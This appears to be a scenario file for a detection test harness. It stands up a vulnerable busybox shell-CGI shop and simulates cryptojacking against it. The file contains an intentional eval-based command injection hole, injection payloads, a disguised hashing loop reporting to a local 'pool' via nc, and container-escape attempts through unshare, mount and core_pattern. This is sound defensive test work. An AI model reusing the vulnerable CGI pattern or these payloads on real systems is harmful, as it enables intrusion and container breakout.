/**
 * A small shop of shell CGI scripts behind busybox httpd (the demo's
 * application, in a real container). The search script evaluates its query
 * in the shell: remote code execution. The attack uses it the way
 * cryptojacking campaigns do: look around, drop a "miner" (a script run
 * from /tmp under an innocent name) that hashes in a loop and talks to its
 * pool (a listener on 127.0.0.1), and try to break out of the container
 * (unshare, mount, writing /proc/sys).
 */
import type { Prng } from '../../detect/lib/prng.js';
import { http, httpOk, visit } from '../clients/http.js';
import type { Scenario, ScenarioContext } from '../types.js';

const PRODUCTS = ['kettle', 'teapot', 'mug', 'saucer', 'spoon', 'strainer', 'caddy', 'cosy', 'tray', 'timer', 'infuser', 'scale'];
const USERS = ['ada', 'brian', 'chen', 'dana', 'emil', 'fatou', 'goran', 'hana'];

const productsFile = PRODUCTS.map((p, i) => `${i + 1} ${p} ${(3 + ((i * 7) % 20)).toFixed(2)}`).join('\n') + '\n';

const cgi = (body: string) => ({ text: `#!/bin/sh\necho "Content-Type: text/plain"\necho\n${body}\n`, mode: 0o755 });

export const cgiMiner: Scenario = {
  name: 'cgi-miner',
  application: 'busybox httpd with shell CGI scripts (a small shop)',
  attackKind: 'remote code execution → dropped miner, container escape attempts',
  attack: 'the search script evaluates its query: the attacker looks around, drops a hashing loop under /tmp that connects to its pool, and tries unshare, mount and /proc/sys',
  // A Kubernetes pod's default: Docker's seccomp profile would deny unshare and mount before any tracer sees them.
  seccompUnconfined: true,
  image: {
    name: 'cgi-shop',
    packages: ['busybox'],
    files: {
      '/srv/www/index.html': '<html><body><h1>Tea shop</h1><a href="/products.html">products</a></body></html>\n',
      '/srv/www/products.html': `<html><body><pre>\n${productsFile}</pre></body></html>\n`,
      '/srv/data/products': productsFile,
      // The vulnerability: the decoded query is evaluated by the shell.
      '/srv/www/cgi-bin/search': cgi('q=$(busybox httpd -d "${QUERY_STRING#q=}")\neval "grep -i $q /srv/data/products" || echo "no match"'),
      '/srv/www/cgi-bin/cart': cgi(
        'user=$(echo "$QUERY_STRING" | sed -n "s/.*user=\\([a-z]*\\).*/\\1/p")\nitem=$(echo "$QUERY_STRING" | sed -n "s/.*add=\\([0-9]*\\).*/\\1/p")\nmkdir -p /tmp/carts\n[ -n "$item" ] && echo "$item" >> "/tmp/carts/$user"\ncat "/tmp/carts/$user" 2>/dev/null | sort | uniq -c',
      ),
      '/srv/www/cgi-bin/order': cgi('body=$(head -c "${CONTENT_LENGTH:-0}")\necho "$(date +%s) $body" >> /tmp/orders\nwc -l < /tmp/orders'),
    },
  },
  command: (ctx) => ['/bin/busybox', 'httpd', '-f', '-p', `127.0.0.1:${ctx.port}`, '-h', '/srv/www'],
  async ready(ctx) {
    await httpOk({ port: ctx.port, path: '/cgi-bin/search?q=tea', timeoutMs: 3000 });
  },
  async session(ctx: ScenarioContext, rng: Prng) {
    const user = USERS[rng.int(USERS.length)]!;
    const steps = 1 + rng.int(5);
    for (let i = 0; i < steps && !ctx.signal.aborted; i++) {
      const pick = rng.float();
      let path: string;
      let method = 'GET';
      let body: string | undefined;
      if (pick < 0.2) path = rng.float() < 0.5 ? '/index.html' : '/products.html';
      else if (pick < 0.55) path = `/cgi-bin/search?q=${PRODUCTS[rng.int(PRODUCTS.length)]!.slice(0, 2 + rng.int(4))}`;
      else if (pick < 0.85) path = `/cgi-bin/cart?user=${user}&add=${1 + rng.int(PRODUCTS.length)}`;
      else {
        method = 'POST';
        path = '/cgi-bin/order';
        body = `user=${user}&items=${1 + rng.int(5)}`;
      }
      await visit(ctx, { method, path, body });
    }
  },
  async attackRun(ctx, rng) {
    const pool = await ctx.listen();
    const rce = async (cmd: string) => {
      ctx.log(cmd);
      await http({ port: ctx.port, path: `/cgi-bin/search?q=${encodeURIComponent(`x /dev/null; ${cmd}; echo`)}`, timeoutMs: 30_000 });
    };
    const name = ['kworker', 'kthreadd', 'systemd-udev'][rng.int(3)]!;
    await rce('id; uname -a; cat /proc/cpuinfo | grep -c processor; ls -la /');
    // The miner: a loop of hashing rounds that reports each "share" to its pool.
    const rounds = 20 + rng.int(30);
    await rce(
      `mkdir -p /tmp/.cache && printf '%s\\n' '#!/bin/sh' 'i=0' 'while [ $i -lt ${rounds} ]; do head -c 65536 /dev/urandom | sha256sum >> /tmp/.cache/shares; i=$((i+1)); done' 'tail -n 3 /tmp/.cache/shares | busybox nc 127.0.0.1 ${pool.port}' > /tmp/.cache/${name} && chmod +x /tmp/.cache/${name}`,
    );
    // Started in the background, as a miner is: the request returns, the loop goes on and reports to the pool.
    await rce(`(/tmp/.cache/${name} </dev/null >/dev/null 2>&1 &)`);
    const conn = await pool.nextConnection(20_000);
    conn.destroy();
    await rce('unshare -U -r id; unshare -m true; mount -t tmpfs none /mnt; echo "|/tmp/.cache/x" > /proc/sys/kernel/core_pattern; cat /proc/1/status | grep Cap');
  },
  evidence: ['connect', 'mount', 'unshare'],
  evidenceExecs: ['unshare', 'mount'],
};
